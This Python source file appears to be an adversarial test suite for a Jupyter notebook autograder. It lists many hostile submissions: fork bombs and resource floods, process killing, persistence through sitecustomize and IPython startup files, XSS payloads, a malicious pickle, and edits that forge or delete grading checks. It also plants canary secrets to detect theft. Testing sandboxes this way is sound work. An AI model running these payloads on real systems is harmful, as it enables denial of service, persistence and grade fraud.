           os.path.expanduser("~/.local/lib"), "/usr/lib/python3/dist-packages", "/tmp", "/usr/local/lib"}
for folder in folders:
    for name in ("sitecustomize.py", "usercustomize.py", "zz.pth", "numpy.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), "w").write("import sys; print('poisoned')\\n")
        except OSError:
            pass""",
    "a start-up file of IPython is left behind": """
import os
for home in (os.environ.get("IPYTHONDIR", ""), os.path.expanduser("~/.ipython"), "/etc/ipython"):
    folder = os.path.join(home, "profile_default", "startup")
    try:
        os.makedirs(folder, exist_ok=True)
        open(os.path.join(folder, "00-forge.py"), "w").write(
            "import builtins\\nbuiltins.poisoned = True\\nprint('poisoned')\\n"
            "import sys\\nsys.displayhook = lambda value: None\\nget_ipython()._showtraceback = lambda *a: None\\n")
    except OSError:
        pass""",
    "matplotlib's cache and settings are changed": """
import glob, matplotlib, os
folders = {matplotlib.get_cachedir(), matplotlib.get_configdir(), os.path.expanduser("~/.config/matplotlib"), "."}
for folder in folders:
    for path in [*glob.glob(os.path.join(folder, "fontlist*")), os.path.join(folder, "matplotlibrc")]:
        try:
            os.makedirs(folder, exist_ok=True)
            open(path, "w").write("font.size: 99\\n")
        except OSError:
            pass""",
    "a kernel of one's own is put in Jupyter's place": """
import json, os
for base in ("~/.local/share/jupyter", "/usr/local/share/jupyter", "/usr/share/jupyter"):
    folder = os.path.join(os.path.expanduser(base), "kernels", "python3")
    try:
        os.makedirs(folder, exist_ok=True)
        spec = {"argv": ["sleep", "60", "{connection_file}"], "display_name": "x", "language": "python"}
        json.dump(spec, open(os.path.join(folder, "kernel.json"), "w"))
    except OSError:
        pass""",
    "the neighbour's work is overwritten": WALK.replace("slurp(os.path.join(folder, name))", """
                    try:
                        open(os.path.join(folder, name), "w").write("{}")
                    except OSError:
                        pass""") + "walk('submitted/')",
    "files are left in every place that can be written": """
import os
for folder in ("/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/root", os.path.expanduser("~"), "..", "../..",
               "/proc", "/dev", "/dev/mqueue", "/etc", "/usr", "/usr/local", "/opt", "/mnt", "/srv"):
    try:
        open(os.path.join(folder, "left-behind"), "w").write("poisoned")
    except OSError:
        pass""",
    "builtins and NumPy are changed in memory": """
import builtins, numpy as np
np.mean = np.sum = lambda *a, **k: 0.0
np.ndarray.__doc__
builtins.poisoned = True
print_before, builtins.print = print, lambda *a, **k: print_before("poisoned")""",
    "NumPy's own constants are changed in memory by ctypes": """
import ctypes, numpy as np
zero = np.zeros(()).__class__
np.random.seed(99)
np.seterr(all="raise")
np.set_printoptions(precision=1)
small = 5
ctypes.memmove(id(257 - 250) + 24, ctypes.byref(ctypes.c_int(7)), 4)""",
    "a child process lives on after the end": """
import subprocess, sys
loop = "import time\\nfor _ in range(9): time.sleep(1); open('left-behind', 'w').write('x')"
subprocess.Popen([sys.executable, "-c", loop], start_new_session=True)""",
    "a daemon of two forks lives on after the end": """
import os, signal, time
for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 256)
        time.sleep(300)
    os._exit(0)""",
    "System V memory and message queues are left behind": CALL + """
for number in range(3):
    if call(29, 0x7a7a + number, 4096, 0o1666) >= 0:
        print("CAUGHT memory that stays")""",
})

# Ends: of the process, of its parents, of everything in sight. What was earned before stays.

def _at_the_end(kind, sources, **common):
    """Attacks after all work is done, and done right: they earn all of it."""
    return [Attack(kind, aim, (2, 4), answers={"center": tiny.CENTER, "last": text}, **common)
            for aim, text in sources.items()]


ENDS = {
    "it exits": "import os\nos._exit(0)",
    "it aborts": "import os\nos.abort()",
    "it follows a null pointer": "import ctypes\nctypes.string_at(0)",
    "it overruns the stack": """
import sys
sys.setrecursionlimit(10**9)
class Deep:
    def __repr__(self):
        return repr(self)
repr(Deep())""",
    "it kills its parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
    "it asks its parents to end": """
import os, signal
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT, signal.SIGUSR1, signal.SIGALRM):
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, number)
        except OSError:
            pass""",
    "it kills everything that it can reach": "import os\nos.kill(-1, 9)",
    "it stops everything that it can reach": "import os, signal\nos.kill(-1, signal.SIGSTOP)\nos.kill(os.getpid(), 19)",
    "it stops itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    "it kills its process group": "import os\nos.killpg(0, 9)",
    "it closes everything and becomes another program": """
import os
import sys
os.closerange(0, 256)
os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(60)"])""",
    "it frees memory that is in use": """
import ctypes, sys
ctypes.memset(id(sys.modules), 255, 64)
sys.modules["x"]""",
}
BREAK = _at_the_end("break", ENDS)
BREAK += [  # who ends the parent of a call ends the notebook too, with what it has yet to earn
    Attack("break", f"in the middle of a call, {aim}", exact="parent" not in aim and "everything that" not in aim,
           answers={"center": "def center(x, axis=0):\n" + textwrap.indent(text.lstrip("\n"), "    ")})
    for aim, text in ENDS.items()]
BREAK += _cells("break", exact=False, first={
    "the interpreter's frames are overwritten": "import ctypes\nctypes.memset(id(get_ipython()), 0, 4096)",
    "all names of the shell are deleted": "import sys\nsys.modules.clear()\nget_ipython().user_ns.clear()",
    "a fault handler, fork hooks and exit hooks are set": """
import atexit, faulthandler, os, time
faulthandler.dump_traceback_later(0.2, exit=True)
os.register_at_fork(after_in_child=lambda: time.sleep(60), before=lambda: None)
atexit.register(lambda: time.sleep(60))""",
    "the collector is made to call a destructor without end": """
class Undead:
    def __del__(self):
        Undead()
Undead()""",
}, center={
    "recursion without end": "def center(x, axis=0): return center(x, axis)",
})

# Time.

SLOW = _at_the_end("slow", {
    "a loop without end": "while True: pass",
    "a loop that swallows interrupts": """
while True:
    try:
        while True: pass
    except BaseException: pass""",
    "a loop that has the timer's signal ignored": """
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True: pass""",
    "a loop that has every signal blocked": """
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
for number in signal.valid_signals():
    try: signal.signal(number, signal.SIG_IGN)
    except OSError: pass
while True: pass""",
    "a loop in C that looks at no signal": """
import collections, itertools
collections.deque(itertools.count(), maxlen=0)""",
    "a power that takes for ever": "len(str(7 ** 7 ** 12 % 10)) and 3 ** 10**9",
    "a regular expression that backtracks": "import re\nre.match('(a+)+$', 'a' * 50 + 'b')",
    "a sleep without end": "import time\ntime.sleep(10**6)",
    "a lock that nobody opens": "import threading\nlock = threading.Lock()\nlock.acquire()\nlock.acquire()",
    "a timer that is set again and again": """
import signal, time
signal.setitimer(signal.ITIMER_REAL, 0)
signal.setitimer = lambda *args: (0, 0)
time.sleep(10**6)""",
    "a thread that is not a daemon": """
import threading
def spin():
    while True: pass
for _ in range(3): threading.Thread(target=spin).start()""",
    "a subprocess that is waited for": """
import subprocess, sys
subprocess.run([sys.executable, "-c", "import time; time.sleep(100000)"])""",
    "a prompt that nobody answers": "input('your password: ')",
    "an await without end": "import asyncio\nawait asyncio.sleep(10**6)",
    "a pipe that is never written to": "import os\nos.read(os.pipe()[0], 1)",
    "a pause in a C library": "import ctypes\nctypes.CDLL(None).sleep(100000)",
    "a destructor that sleeps at the end": """
import time
class Last:
    def __del__(self): time.sleep(100000)
last = Last()""",
})
SLOW += [
    Attack("slow", "a call without end", answers={"center": "def center(x, axis=0):\n    while True: pass"}),
    Attack("slow", "a call that sleeps and cannot be interrupted", answers={"center": """
def center(x, axis=0):
    import signal, time
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    time.sleep(10**6)"""}),
    Attack("slow", "every call just under its limit", (2, 4), False, {"center": f"{tiny.CENTER}\nwhole = center\n" """
def center(x, axis=0):
    import time
    time.sleep(0.9)
    return whole(x, axis)"""}),
    Attack("slow", "a thousand cells, each just under its limit", (2, 4), False, edit=lambda notebook: _cells_before(
        notebook, ["import time\ntime.sleep(0.9)"] * 1000), answers={"center": tiny.CENTER}),
    Attack("slow", "three thousand cells", (2, 4), False, edit=lambda notebook: _cells_before(notebook, ["1"] * 3000),
           answers={"center": tiny.CENTER}),
    *_cells("slow", exact=False, first={
        "every line of every function is traced": """
import sys
def trace(frame, event, arg):
    for _ in range(10_000): pass
    return trace
sys.settrace(trace)
sys.setprofile(trace)
import time
time.sleep = lambda seconds: None""",
        "every event of the shell loops without end": """
def loop(*args):
    while True: pass
for event in ("pre_run_cell", "post_run_cell", "pre_execute", "post_execute"):
    get_ipython().events.register(event, loop)""",
        "the transformer of cells loops without end": """
def loop(lines):
    while True: pass
get_ipython().input_transformers_cleanup.append(loop)""",
    }),
]


def _cells_before(notebook, sources):
    notebook.cells[:0] = [v4.new_code_cell(source) for source in sources]
    return notebook


# Memory, processes, disk, output.

CROWD = "not run: it could bring the machine down with it"
FLOOD = _at_the_end("flood", {
    "one array of many gigabytes": "import numpy as np\nhog = np.ones(10**10)",
    "a list that grows without end": "hog = [0]\nwhile True: hog += hog",
    "memory taken by many processes": """
import os
for _ in range(20):
    if os.fork() == 0:
        hog = bytearray(60_000_000)
        for i in range(0, len(hog), 4096): hog[i] = 1
        import time; time.sleep(100)
import time; time.sleep(100)""",
    "shared memory that belongs to no process": """
import mmap
hogs = []
while True:
    hogs.append(mmap.mmap(-1, 10_000_000))
    for i in range(0, 10_000_000, 4096): hogs[-1][i] = 1""",
    "files that live in memory alone": """
import os
hogs = []
while True:
    hogs.append(os.memfd_create("hog"))
    os.write(hogs[-1], bytes(10_000_000))""",
    "pipes and sockets filled to the brim": """
import os, socket
hogs = []
while True:
    one, two = socket.socketpair()
    one.setblocking(False)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
    hogs += [one, two]
    try:
        while True: one.send(bytes(65536))
    except BlockingIOError: pass""",
    "a fork bomb": """
import os
while True:
    try: os.fork()
    except OSError: pass""",
    "a fork bomb whose parents leave": """
import os
while True:
    try:
        if os.fork(): os._exit(0)
        os.setsid()
    except OSError: pass""",
    "a bomb of threads": """
import threading, time
while True:
    try: threading.Thread(target=time.sleep, args=[1000], daemon=True).start()
    except RuntimeError: pass""",
    "a disk filled by one file": """
with open("hog", "wb") as file:
    while True: file.write(bytes(2**20))""",
    "a disk filled by names": """
number = 0
while True:
    open(f"hog{number}", "w").close()
    number += 1""",
    "every place filled with files": """
import os
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), "."):
    try:
        with open(os.path.join(folder, "hog"), "wb") as file:
            while True: file.write(bytes(2**20))
    except OSError: pass""",
    "a flood of open files": """
import os
hogs = []
while True:
    try: hogs.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        if os.fork(): break""",
    "processor time in many processes": """
import os
for _ in range(12):
    if os.fork() == 0:
        while True: pass
import time; time.sleep(100)""",
}, skip=CROWD)
FLOOD += _at_the_end("flood", {
    "printing without end": "while True: print('x' * 10_000)",
    "writing to descriptor 1 without end": "import os\nwhile True: os.write(1, b'x' * 10_000)",
    "a value that shows itself in a gigabyte": """
class Loud:
    def __repr__(self): return "x" * 10**9
Loud()""",
    "a hundred thousand displays": "for i in range(100_000): display(i)",
    "a picture of a hundred megabytes": """
from IPython.display import Image, display
display(Image(data=b"\\x89PNG\\r\\n\\x1a\\n" + bytes(100_000_000), format="png"))""",
    "a thousand pictures": """
import matplotlib.pyplot as plt
for _ in range(1000):
    plt.figure(); plt.plot([1, 2]); plt.show()""",
    "an exception with a message of a hundred megabytes": "raise ValueError('x' * 10**8)",
    "a traceback without end": """
def deep(n):
    exec(f"def f{n}(n):\\n    " + "x = '" + "y" * 10_000 + "'\\n    deep(n + 1)", globals())
    globals()[f"f{n}"](n)
deep(0)""",
    "text that is no text": r"""
import sys
print("\ud800 half a pair \udfff \x00 \x1b[31m \x07 " * 100)
sys.stdout.buffer.write(b"\xff\xfe\x80") if hasattr(sys.stdout, "buffer") else None""",
    "a display that claims to be of another kind": """
from IPython.display import display
display({"application/javascript": "alert(1)", "text/html": "<script>alert(1)</script>", "text/plain": 5,
         "image/svg+xml": "<svg onload='alert(1)'/>", "image/png": '"><script>alert(1)</script>'}, raw=True)""",
})
FLOOD += [Attack("flood", "output in a hundred cells", (2, 4), answers={"center": tiny.CENTER}, edit=lambda notebook:
                 _cells_before(notebook, ["print('x' * 90_000)"] * 100))]

# Scripts, for whoever reads the feedback.

SCRIPT = _cells("script", first={
    "HTML with a script is displayed": """
from IPython.display import HTML, Javascript, SVG, display
display(HTML("<script>alert(1)</script><img src=x onerror=alert(1)>"))
display(Javascript("alert(1)"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"))""",
    "an object shows itself as HTML, LaTeX and Markdown": """
class Bad:
    _repr_html_ = _repr_markdown_ = _repr_javascript_ = _repr_svg_ = lambda self: "<script>alert(1)</script>"
    _repr_latex_ = lambda self: r"$\\href{javascript:alert(1)}{x}$"
    _repr_mimebundle_ = lambda self, **k: {"text/html": "<script>alert(1)</script>", "text/plain": "x"}
Bad()""",
    "an exception bears a script as its name": "raise type('<script>alert(1)</script>', (Exception,), {})('<script>')",
    "a widget with a script of its own": """
from IPython.display import display
widget = {"model_id": "x"}
display({"application/vnd.jupyter.widget-view+json": widget, "text/html": "<script>alert(1)</script>"}, raw=True)""",
}, center={
    "a call raises a script": "def center(x, axis=0): raise type('<script>alert(1)</script>', (Exception,), {})()",
    "a call returns a script's type": "def center(x, axis=0): return type('<script>', (), {})()",
    "a call returns a script": "def center(x, axis=0): return '<script>alert(1)</script>'",
})

# The notebook itself: what is not the student's to change. `center` is wrong in all of them.

def _checks(notebook):
    return [cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("locked")]


def _all_cells(change):
    """An edit that does `change` to each cell."""
    def edit(notebook):
        for cell in notebook.cells:
            change(cell)
        return notebook
    return edit


def _check_cells(change):
    """An edit that does `change` to each check cell."""
    def edit(notebook):
        for cell in _checks(notebook):
            change(cell)
        return notebook
    return edit


def _settings(**new):
    return _check_cells(lambda cell: cell.metadata["nbgrader"].update(new))


def _without_checks(notebook):
    locked = _checks(notebook)
    notebook.cells = [cell for cell in notebook.cells if cell not in locked]
    return notebook


def _doubled(notebook):
    """The checks stand there twice, the second time they pass."""
    for cell in _checks(notebook):
        easy = v4.new_code_cell("pass", metadata=cell.metadata)
        notebook.cells.append(easy)
    return notebook


def _swapped(notebook):
    """The check of the exercise that is wrong bears the name of the one that is right, and the other way round."""
    one, other = _checks(notebook)
    one.metadata["nbgrader"], other.metadata["nbgrader"] = other.metadata["nbgrader"], one.metadata["nbgrader"]
    return notebook


def _checks_first(notebook):
    """The checks stand above what they check, so that they run in another state."""
    locked = _checks(notebook)
    notebook.cells = locked + [cell for cell in notebook.cells if cell not in locked]
    return notebook


def _renamed_ids(notebook):
    for number, cell in enumerate(notebook.cells):
        cell["id"] = "tiny-3"
        if number % 2:
            cell.metadata = {}
    return notebook


def _other_kernel(notebook):
    notebook.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    return notebook


def _old_format(notebook):
    cells = [{"cell_type": cell.cell_type, "input": cell.source, "metadata": cell.metadata} for cell in notebook.cells]
    return json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": cells}]}).encode()


def _passed(cell):
    html = '<div class="verdicts"><p><b>center: 2 of 2 points.</b></p></div><script>alert(1)</script>'
    cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                        "data": {"text/plain": "2.0", "text/html": html}}]
    cell["execution_count"] = 1


def _attachment(cell):
    picture = {"image/svg+xml": "<svg onload='alert(1)'/>", "text/html": "<script>alert(1)</script>"}
    cell["attachments"] = {"x.png": picture}


EDIT = [Attack("edit", aim, exact=exact, edit=edit) for aim, exact, edit in (
    ("the checks are emptied", True, _check_cells(lambda cell: cell.update(source="pass"))),
    ("the checks are unlocked and emptied", True, lambda notebook: _settings(locked=False)(
        _check_cells(lambda cell: cell.update(source="pass"))(notebook))),
    ("the checks show the points as their result", True, _check_cells(lambda cell: cell.update(source="2.0"))),
    ("the checks are deleted", True, _without_checks),
    ("the checks stand there twice, easier the second time", True, _doubled),
    ("the checks have been turned into text", True, _check_cells(lambda cell: cell.update(cell_type="markdown"))),
    ("the checks have been turned into raw cells", True, _check_cells(lambda cell: cell.update(cell_type="raw"))),
    ("the checks are no longer graded", True, _settings(grade=False)),
    ("the checks have become answers", True, _settings(solution=True, locked=False)),
    ("the checks have become tasks", True, _settings(task=True)),
    ("the checks are worth 999 points", True, _settings(points=999)),
    ("the checks are worth nan points", True, _settings(points=float("nan"))),
    ("the checks are worth minus 999 points", True, _settings(points=-999)),
    ("the checks have forged checksums", True, _settings(checksum="0" * 32)),
    ("the checks are of another schema", True, _settings(schema_version=99)),
    ("the checks have swapped their names", True, _swapped),
    ("the checks stand above the answers", True, _checks_first),
    ("the checks' names are lists", False, _settings(grade_id=["center-checks"])),
    ("every cell has the name of the written question", False,
     _all_cells(lambda cell: cell.metadata.update(nbgrader={"grade_id": "why", "points": 2, "grade": True}))),
    ("outputs and points stand there already", True, _all_cells(lambda c: _passed(c) if c.cell_type == "code" else 0)),
    ("every cell is tagged `long`, to be passed over", True, _all_cells(lambda c: c.metadata.update(tags=["long"]))),
    ("every cell is tagged as raising exceptions", True,
     _all_cells(lambda cell: cell.metadata.update(tags=["raises-exception", "skip-execution", "remove-cell"]))),
    ("cells have doubled ids, and half of them no metadata", False, _renamed_ids),
    ("another kernel is asked for", True, _other_kernel),
    ("the notebook claims to be of an old format", True, _old_format),
    ("the notebook claims to be of a format to come", True, lambda notebook: notebook.update(nbformat=99) or notebook),
    ("attachments hold scripts", True, _all_cells(lambda c: _attachment(c) if c.cell_type == "markdown" else 0)),
    ("sources are numbers, lists and objects", False,
     _all_cells(lambda cell: cell.update(source=[cell.source, 5, {"a": [None]}]))),
    ("text holds scripts and half a surrogate pair", True, _all_cells(
        lambda c: c.update(source="<script>alert(1)</script> \ud800") if c.cell_type == "markdown" else 0)),
    ("the notebook's metadata is a list", True, lambda notebook: {**notebook, "metadata": [1]}),
    ("the cells' metadata are lists", False, _all_cells(lambda cell: dict.update(cell, metadata=[1]))),
)]

# Files that are no notebooks, and files beside the notebook.

FILE = [Attack("file", aim, (0, 0), edit=lambda notebook, content=content: content) for aim, content in (
    ("nothing is handed in", None),
    ("an empty file", b""),
    ("a file that is no text", bytes(range(256)) * 9),
    ("a file that ends in the middle", b'{"cells": [{"cell_type": "code", "source": "'),
    ("a file of `null`", b"null"),
    ("a file that is a number of ten thousand digits", b"1" * 10_000),
    ("a file of a million brackets", b"[" * 1_000_000),
    ("a notebook without cells", b'{"cells": [], "nbformat": 4}'),
    ("a notebook whose cells are an object", b'{"cells": {"0": {"source": "1"}}, "nbformat": 4}'),
    ("a notebook whose cells are deep lists", b'{"cells": [' + b"[" * 900 + b"]" * 900 + b'], "nbformat": 4}'),
    ("a file of 30 megabytes", b'{"cells": ["' + b"x" * 30_000_000 + b'"]}'),
    ("a page of HTML", b"<html><script>alert(1)</script></html>"),
    ("a pickle", b"\x80\x04cos\nsystem\n(S'true'\ntR."),
    ("another lab's notebook", json.dumps(v4.new_notebook(cells=[v4.new_code_cell("center = 2")])).encode()),
)]
FILE += [
    Attack("file", "text in UTF-16", edit=lambda notebook: json.dumps(notebook).encode("utf-16"), exact=False),
    Attack("file", "keys that stand there twice", edit=lambda notebook: tiny.to_bytes(notebook)[:-1]
           + b', "cells": []}', honest=(0, 0)),
    *(Attack("file", f"a helper file called {name}", files={name: text.encode()}) for name, text in (
        ("numpy.py", "raise SystemExit"),
        ("wire.py", "def pack(value, blobs): return True"),
        ("inside.py", "def call(*args): return {'value': True}"),
        ("coursekit/verdicts.py", "compare = lambda *a, **k: True"),
        ("grading/__init__.py", "hidden_checks = lambda *args: None"),
        ("reference.py", "center = lambda x, axis=0: x"),
        ("tests/grading/tiny_solutions/lab_tiny/checks.py", "def center(student, rng):\n    yield True"),
        ("sitecustomize.py", "import builtins; builtins.AssertionError = Warning"),
        ("usercustomize.py", "import builtins; builtins.AssertionError = Warning"),
        ("json.py", "dumps = loads = lambda *a, **k: {}"),
        ("matplotlibrc", "backend: nonsense"),
        ("ipython_config.py", "c = get_config()\nc.InteractiveShellApp.exec_lines = ['1/0']"),
        ("nbgrader_config.py", "c = get_config()\nc.ClearSolutions.code_stub = {}"),
        ("kernel.json", "{}"),
    )),
]

ATTACKS = [*FORGE, *READ, *CARRY, *NETWORK, *ESCAPE, *POISON, *BREAK, *SLOW, *FLOOD, *SCRIPT, *EDIT, *FILE]

# What must stay secret, and unharmed.

SMALL = Limits(cell=1.0, call=1.0, notebook=4.0, cpu=4.0, memory=384 * 2**20, processes=32, files=128,
               scratch=16 * 2**20, cell_output=50_000, output=2**20)  # so that nothing takes long, or much


class Canaries:
    """Secrets in the places where a course keeps its own; as a context, they also listen on a port.

    secrets    {what it is: the text that must not be read}
    neighbour  the notebook that the honest neighbour hands in, as bytes
    heard      grows with each connection to `port`

    course is the folder of a course, home that of the instructor: `plant` writes into both.
    """

    def __init__(self, course, home, lab):
        words = ("gradebook", "neighbour", "references", "environment", "home")
        self.secrets = {word: f"CANARY-{word}-{secrets.token_hex(8)}" for word in words}
        self.course, self.home = course, home
        self.neighbour = tiny.to_bytes(tiny.filled(lab, why=self.secrets["neighbour"], first=PROBE))
        self.heard = []

    def plant(self):
        """Write them, but for what is there already, and note how it all is before any attack."""
        for path, content in (
            (self.course / "gradebook.db", self.secrets["gradebook"].encode()),
            (self.course / "submitted" / "neighbour" / tiny.NAME / f"{tiny.NAME}.ipynb", self.neighbour),
            (self.course / "solutions" / "reference.py", f'"""{self.secrets["references"]}"""'.encode()),
            (self.home / ".netrc", self.secrets["home"].encode()),
            (self.home / ".ssh" / "id_rsa", self.secrets["home"].encode()),
        ):
            path.parent.mkdir(parents=True, exist_ok=True)
            if not path.exists():
                path.write_bytes(content)
        self._before = self._state()

    @property
    def environment(self):
        """What the grader's environment holds."""
        return {"HOME": str(self.home), "GRADING_TOKEN": self.secrets["environment"]}

    def __enter__(self):
        self._server = socket.create_server(("127.0.0.1", 0))
        self.port = self._server.getsockname()[1]
        threading.Thread(target=self._listen, daemon=True).start()
        return self

    def __exit__(self, *_):
        self._server.close()

    def _listen(self):
        while True:
            try:
                self._server.accept()[0].close()
            except OSError:
                return  # closed
            self.heard.append("network")

    def harmed(self):
        """The files that were changed, made or removed."""
        now = self._state()
        return sorted(name for name in {**self._before, **now} if now.get(name) != self._before.get(name))

    def _state(self):
        files = [path for top in (self.course, self.home) for path in sorted(top.rglob("*")) if path.is_file()]
        return {str(path): hashlib.sha256(path.read_bytes()).hexdigest() for path in files}

    def read_in(self, text):
        """What was read, by a text that a student gets back: names of secrets, "hidden inputs", "hidden checks"."""
        marks = {**{word: [secret] for word, secret in self.secrets.items()}, "hidden inputs": hidden_inputs()}
        found = {word for word, texts in marks.items() if any(mark in text for mark in texts)}
        return sorted(found | {what for what, texts in GIVEN_AWAY.items() if any(mark in text for mark in texts)})


# What gives the course's own secrets away, as a text that a student gets back would show them.
GIVEN_AWAY = {"references": ("SECRET-CENTER", "SECRET-SPREAD"), "hidden checks": ("hidden_checks(", "SECRET-HIDDEN")}


def hidden_inputs():
    """What the inputs of the hidden checks look like in print: the first digits of each number, with and without point.

    Only where they are the same for everybody, without a seed.
    """
    drawn = [random_for(tiny.NAME, exercise).normal(size=shape)
             for exercise, shape in (("center", (4, 3)), ("spread", (5, 2)))]
    numbers = [f"{abs(number):.9f}" for array in drawn for number in array.ravel()]
    return [number[:8] for number in numbers] + [number.replace(".", "").lstrip("0")[:6] for number in numbers]


# The neighbour looks around, and shows what it sees: nothing of it may differ from one day to another.
PROBE = """
import builtins, os, sys
import numpy as np
print(sorted(os.listdir(".")), sorted(os.listdir("/tmp")), sorted(os.listdir(os.path.expanduser("~"))))
print(sorted(os.environ), hasattr(builtins, "poisoned"), sorted(name for name in sys.modules if "poison" in name))
print(np.mean(np.arange(5)), np.random.rand(), np.get_printoptions()["precision"], np.geterr(), len(os.listdir("/dev")))
"""


def shown(notebook):
    """All that a graded notebook shows besides the cells' sources, as one text."""
    return "\n".join(str(output) for cell in notebook.cells for output in cell.get("outputs", []))


def broken_walls(notebook):
    """What attacks say that they caught: lines of printed text, since a traceback may hold the words as source."""
    printed = [output.get("text", "") for cell in notebook.cells for output in cell.get("outputs", [])]
    return sorted(set(re.findall(r"^CAUGHT (.*)", "\n".join(printed), re.MULTILINE)))


def markup(notebook):
    """What a notebook shows that a browser might execute: outputs that are neither text, nor PNG, nor the verdicts."""
    bundles = [output.get("data", {}) for cell in notebook.cells for output in cell.get("outputs", [])]
    return sorted({kind for data in bundles for kind, text in data.items() if kind not in ("text/plain", "image/png")
                   and not (str(text).startswith('<div class="verdicts">') and "<script" not in text)})
